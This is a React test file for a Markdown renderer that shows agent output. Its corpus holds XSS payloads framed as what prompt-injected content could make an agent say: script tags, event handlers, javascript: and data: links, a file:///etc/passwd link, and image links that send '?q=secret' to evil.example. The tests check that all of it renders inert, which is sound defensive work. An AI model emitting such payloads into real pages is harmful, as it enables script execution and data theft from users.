import { render, screen } from '@testing-library/react'
import { expect, test } from 'vitest'
import Markdown from './markdown'

// What an injected page, mail or document may make an agent say. None of it may become more than text or a plain link.
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/?q=secret">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" onclick="alert(1)">x</a>',
  '<div style="position:fixed;inset:0">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<body onload=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '<javascript:alert(1)>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x][y]\n\n[y]: https://evil.example/?q=secret',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '[x](/api/auth/sign-out)',
  '[x](//evil.example)',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  'Footnote[^1]\n\n[^1]: <script>alert(1)</script>',
]

test.each(CORPUS)('%s is inert', (text) => {
  for (const open of [false, true]) {
    const { container, unmount } = render(<Markdown text={text} open={open} />)
    const forbidden = 'script, iframe, img, svg:not(.lucide), object, embed, style, link, base, meta, form, video, math, body'
    expect(container.querySelectorAll(forbidden)).toHaveLength(0)
    for (const element of container.querySelectorAll('*')) {
      for (const { name } of element.attributes) expect(name).not.toMatch(/^on/)
      const href = element.getAttribute('href')
      if (href !== null && !href.startsWith('#')) {
        expect(href).toMatch(/^(https?:|mailto:)/)
        expect(element.getAttribute('rel')).toBe('noopener noreferrer nofollow')
        expect(element.getAttribute('target')).toBe('_blank')
      }
    }
    unmount()
  }
})

test.each([
  ['| a |\n| - |\n| b |', 'table td', 'b'],
  ['- [x] Sent', 'li input[type=checkbox]:checked', ''],
  ['~~old~~', 'del', 'old'],
  ['See https://a.example now', 'a[href="https://a.example/"]', 'https://a.example'],
  ['See[^1]\n\n[^1]: There', 'section[data-footnotes] li', 'There'],
])('%j is more than plain text', (text, selector, expected) => {
  const { container } = render(<Markdown text={text} />)
  expect(container.querySelector(selector)?.textContent.trim()).toContain(expected)
})

test('an image is a link that names where it is', () => {
  render(<Markdown text="![A chart](https://charts.example/a.png)" />)
  const link = screen.getByRole('link', { name: /A chart/ })
  expect(link.getAttribute('href')).toBe('https://charts.example/a.png')
  expect(link.textContent).toContain('charts.example')
})

test('code says its language and can be copied', () => {
  render(<Markdown text={'```rust\nfn main() {}\n```'} />)
  expect(screen.getByText('rust')).toBeTruthy()
  expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy()
  expect(screen.getByText('fn main() {}')).toBeTruthy()
})

test('text stands in the direction of its letters, code from left to right', () => {
  const { container } = render(<Markdown text={'\u0634\u0643\u0631\u0627\n\n```js\nlet a\n```'} />)
  expect(screen.getByText('\u0634\u0643\u0631\u0627').closest('[dir]')?.getAttribute('dir')).toBe('auto')
  expect(container.querySelector('pre')?.closest('[dir]')?.getAttribute('dir')).toBe('ltr')
})

const codeIn = (view: { container: HTMLElement }) => view.container.querySelector('pre code')
const colorsOf = (view: { container: HTMLElement }) => [...view.container.querySelectorAll('pre code span')].map((span) => [span.className, span.textContent])

test.each([
  ['sql', 'SELECT 1', [['hljs-keyword', 'SELECT'], ['hljs-number', '1']]],
  ['TS', 'let a = true', [['hljs-keyword', 'let'], ['hljs-literal', 'true']]],
  ['html', '<script>', [['hljs-tag', '<script>'], ['hljs-name', 'script']]],
])('code in %s has colours by class, and the same words', async (language, code, expected) => {
  const view = render(<Markdown text={`\`\`\`${language}\n${code}\n\`\`\``} />)
  await expect.poll(() => colorsOf(view)).toEqual(expected)
  expect(codeIn(view)?.textContent).toBe(code)
  expect(view.container.querySelector('[style], script')).toBeNull()
})

test('code stays plain while it grows; what came before it has its colours', async () => {
  const text = '```sql\nSELECT 1\n```\n\n```sql\nSELECT 2'
  const view = render(<Markdown text={text} open />)
  await expect.poll(() => colorsOf(view)).toEqual([['hljs-keyword', 'SELECT'], ['hljs-number', '1']])
  view.rerender(<Markdown text={text} />)
  await expect.poll(() => colorsOf(view)).toHaveLength(4)
})

test.each(['nobody-speaks-it', 'constructor', '__proto__'])('code in a language that isn’t known stays plain: %s', async (language) => {
  const view = render(<Markdown text={`\`\`\`${language}\na b\n\`\`\`\n\n\`\`\`sql\nSELECT 1\n\`\`\``} />)
  await expect.poll(() => colorsOf(view)).toHaveLength(2)
  expect(codeIn(view)?.childElementCount).toBe(0)
  expect(codeIn(view)?.textContent).toBe('a b')
})
